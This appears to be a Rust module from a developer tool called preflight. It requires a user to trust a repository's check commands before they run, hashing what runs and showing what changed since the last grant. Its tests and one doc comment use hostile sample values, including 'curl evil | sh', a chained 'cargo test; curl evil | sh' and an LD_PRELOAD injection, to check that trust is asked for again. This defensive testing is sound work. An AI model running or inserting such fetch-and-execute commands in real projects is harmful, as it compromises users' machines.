//! Trust: no command of a repository runs until its user says so (like `direnv allow`).
//!
//! Trust is on what runs, not on the file: the canonical executable part of the
//! configuration ([`runs_text`]: each check's command, env, cwd, watch globs and
//! timeout; the detected default included). Comments, plan statuses (which preflight
//! itself rewrites) and gate thresholds change nothing that runs, so they leave trust
//! alone; a change to what runs asks again, and [`changes`] says what changed. A record
//! binds the repository path as reached, its resolved path, the SHA-256 of what runs
//! and its text (so the next prompt can show the difference). A moved repository or
//! one reached through a symlink does not match and asks again. Records live in the
//! user's data directory (`$XDG_DATA_HOME/preflight/trust.toml`), never in the
//! repository.

use crate::config::Config;
use crate::fsutil::write_atomic;
use crate::repo::Repo;
use color_eyre::eyre::{eyre, Result, WrapErr};
use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

/// Environment variable that trusts whatever runs (for CI).
pub const TRUST_ENV: &str = "PREFLIGHT_TRUST";

/// Files people might drop into a repository hoping to trust it; they are ignored.
const IN_REPO_TRUST_FILES: &[&str] = &[
    ".preflight/trust",
    ".preflight/trust.toml",
    ".preflight/trusted",
];

/// One grant: this repository (as reached and resolved) may run what `sha256` hashes.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Record {
    pub path: PathBuf,
    pub canonical: PathBuf,
    /// SHA-256 of [`runs_text`] (records older than this scheme hashed the whole file
    /// and simply never match again).
    pub sha256: String,
    pub granted: String,
    /// [`runs_text`] as trusted, to say what changed since.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub runs: Option<String>,
}

#[derive(Debug, Default, Serialize, Deserialize)]
struct Store {
    #[serde(default)]
    trusted: Vec<Record>,
}

/// What one check runs, as trust sees it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
struct Runnable {
    id: String,
    run: String,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    cwd: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    timeout: Option<String>,
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    watch: Vec<String>,
    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
    env: BTreeMap<String, String>,
}

#[derive(Debug, Default, Serialize, Deserialize)]
struct Runs {
    #[serde(default)]
    check: Vec<Runnable>,
}

fn runnables(config: &Config) -> Runs {
    let mut check: Vec<Runnable> = config
        .checks
        .iter()
        .map(|c| Runnable {
            id: c.id.clone(),
            run: c.run.clone(),
            cwd: c.cwd.as_ref().map(|p| p.to_string_lossy().into_owned()),
            timeout: c.timeout.map(|t| humantime::format_duration(t).to_string()),
            watch: c.watch.clone(),
            env: c.env.clone(),
        })
        .collect();
    check.sort_by(|a, b| a.id.cmp(&b.id));
    Runs { check }
}

/// The canonical text of what `config` runs: every check's command, env, cwd, watch
/// globs and timeout, by check id, in TOML. Two configurations that run the same
/// things have the same text, whatever their comments, plans or gates.
pub fn runs_text(config: &Config) -> String {
    toml::to_string(&runnables(config)).unwrap_or_default()
}

pub fn hash(text: &str) -> String {
    Sha256::digest(text.as_bytes())
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

/// Where records are kept.
pub fn store_path() -> Result<PathBuf> {
    let base = dirs::data_dir()
        .ok_or_else(|| eyre!("cannot find the data directory: set XDG_DATA_HOME"))?;
    Ok(base.join("preflight").join("trust.toml"))
}

fn read_store(path: &Path) -> Result<Store> {
    match std::fs::read_to_string(path) {
        Ok(text) => {
            toml::from_str(&text).map_err(|e| eyre!("{}: {}", path.display(), e.message().trim()))
        }
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(Store::default()),
        Err(e) => Err(e).wrap_err_with(|| format!("cannot read {}", path.display())),
    }
}

fn record_of<'a>(store: &'a Store, repo: &Repo) -> Option<&'a Record> {
    store
        .trusted
        .iter()
        .find(|r| r.path == repo.root && r.canonical == repo.canonical_root)
}

/// Is what `config` runs trusted for this repository?
pub fn is_trusted(repo: &Repo, config: &Config) -> Result<bool> {
    let store = read_store(&store_path()?)?;
    let sha = hash(&runs_text(config));
    Ok(record_of(&store, repo).is_some_and(|r| r.sha256 == sha))
}

/// May this configuration's commands run: `flag` (`--trust`), `PREFLIGHT_TRUST`, or a
/// record for exactly what it runs?
pub fn allowed(repo: &Repo, config: &Config, flag: bool) -> Result<bool> {
    Ok(flag || from_env() || is_trusted(repo, config)?)
}

/// Whether `PREFLIGHT_TRUST` is set to trust whatever runs.
pub fn from_env() -> bool {
    std::env::var(TRUST_ENV)
        .map(|v| !v.is_empty() && v != "0" && !v.eq_ignore_ascii_case("false"))
        .unwrap_or(false)
}

/// Trust what `config` runs for this repository, replacing older records of it.
pub fn grant(repo: &Repo, config: &Config) -> Result<()> {
    let path = store_path()?;
    let mut store = read_store(&path)?;
    store
        .trusted
        .retain(|r| !(r.path == repo.root && r.canonical == repo.canonical_root));
    let runs = runs_text(config);
    store.trusted.push(Record {
        path: repo.root.clone(),
        canonical: repo.canonical_root.clone(),
        sha256: hash(&runs),
        granted: humantime::format_rfc3339_seconds(std::time::SystemTime::now()).to_string(),
        runs: Some(runs),
    });
    let text = toml::to_string(&store).wrap_err("cannot encode the trust records")?;
    write_atomic(&path, text.as_bytes())
}

/// What changed in what runs since this repository was last trusted, one line per
/// change (`test: run \`cargo test\` → \`curl … | sh\``, `lint: added`), or `None`
/// when it was never trusted here. Empty when nothing that runs changed.
pub fn changes(repo: &Repo, config: &Config) -> Result<Option<Vec<String>>> {
    let store = read_store(&store_path()?)?;
    let Some(record) = record_of(&store, repo) else {
        return Ok(None);
    };
    let now = runnables(config);
    if record.sha256 == hash(&runs_text(config)) {
        return Ok(Some(Vec::new()));
    }
    let Some(before) = record
        .runs
        .as_deref()
        .and_then(|t| toml::from_str::<Runs>(t).ok())
    else {
        return Ok(Some(vec![
            "trusted by an older preflight that kept no copy of the commands: review them all"
                .to_string(),
        ]));
    };
    Ok(Some(diff(&before, &now)))
}

fn diff(before: &Runs, now: &Runs) -> Vec<String> {
    let old: BTreeMap<&str, &Runnable> = before.check.iter().map(|c| (c.id.as_str(), c)).collect();
    let new: BTreeMap<&str, &Runnable> = now.check.iter().map(|c| (c.id.as_str(), c)).collect();
    let mut lines = Vec::new();
    for (id, was) in &old {
        match new.get(id) {
            None => lines.push(format!("{id}: removed (ran `{}`)", was.run)),
            Some(is) => {
                let mut field = |name: &str, a: String, b: String| {
                    if a != b {
                        lines.push(format!("{id}: {name} `{a}` → `{b}`"));
                    }
                };
                field("run", was.run.clone(), is.run.clone());
                field("cwd", opt(&was.cwd), opt(&is.cwd));
                field("timeout", opt(&was.timeout), opt(&is.timeout));
                field("watch", was.watch.join(", "), is.watch.join(", "));
                field("env", env(&was.env), env(&is.env));
            }
        }
    }
    for (id, is) in &new {
        if !old.contains_key(id) {
            lines.push(format!("{id}: added, runs `{}`", is.run));
        }
    }
    lines
}

fn opt(value: &Option<String>) -> String {
    value.clone().unwrap_or_else(|| "-".into())
}

fn env(map: &BTreeMap<String, String>) -> String {
    map.iter()
        .map(|(k, v)| format!("{k}={v}"))
        .collect::<Vec<_>>()
        .join(" ")
}

/// Warnings for trust files found inside the repository: they grant nothing.
pub fn in_repo_trust_warnings(repo: &Repo) -> Vec<String> {
    IN_REPO_TRUST_FILES
        .iter()
        .filter(|f| repo.root.join(f).exists())
        .map(|f| format!("ignoring {f}: a repository cannot trust itself; run `preflight trust`"))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::{load_str, Source};

    fn config(text: &str) -> Config {
        match load_str(text, Path::new("preflight.toml"), Source::Default) {
            Ok(config) => config,
            Err(e) => panic!("{e}"),
        }
    }

    const BASE: &str = r#"
[[check]]
id = "test"
run = "cargo test"
watch = ["src/**"]
timeout = "10m"

[[phase]]
id = "p1"
title = "One"

[[phase.task]]
id = "t1"
title = "Do it"
status = "todo"

[[gate]]
id = "crit"
max_open = { critical = 0 }
"#;

    #[test]
    fn comments_statuses_and_thresholds_do_not_change_what_runs() {
        let base = runs_text(&config(BASE));
        let edited = BASE
            .replace("status = \"todo\"", "status = \"done\"")
            .replace("critical = 0", "critical = 3")
            .replace("[[phase]]", "# a comment\n[[phase]]");
        assert_eq!(runs_text(&config(&edited)), base);
    }

    #[test]
    fn what_runs_changes_with_commands_env_cwd_globs_and_timeouts() {
        let base = runs_text(&config(BASE));
        for edited in [
            BASE.replace("cargo test", "cargo test; curl evil | sh"),
            BASE.replace("timeout = \"10m\"", "timeout = \"10m\"\ncwd = \"sub\""),
            BASE.replace(
                "timeout = \"10m\"",
                "timeout = \"10m\"\nenv = { LD_PRELOAD = \"x\" }",
            ),
            BASE.replace("src/**", "**"),
            BASE.replace("10m", "20m"),
        ] {
            assert_ne!(runs_text(&config(&edited)), base, "{edited}");
        }
    }

    #[test]
    fn the_difference_names_each_change() {
        let before = runnables(&config(BASE));
        let now = runnables(&config(&format!(
            "{}\n[[check]]\nid = \"lint\"\nrun = \"make lint\"\n",
            BASE.replace("cargo test", "curl evil | sh")
        )));
        assert_eq!(
            diff(&before, &now),
            vec![
                "test: run `cargo test` → `curl evil | sh`".to_string(),
                "lint: added, runs `make lint`".to_string(),
            ]
        );
        assert!(diff(&now, &before).contains(&"lint: removed (ran `make lint`)".to_string()));
    }
}
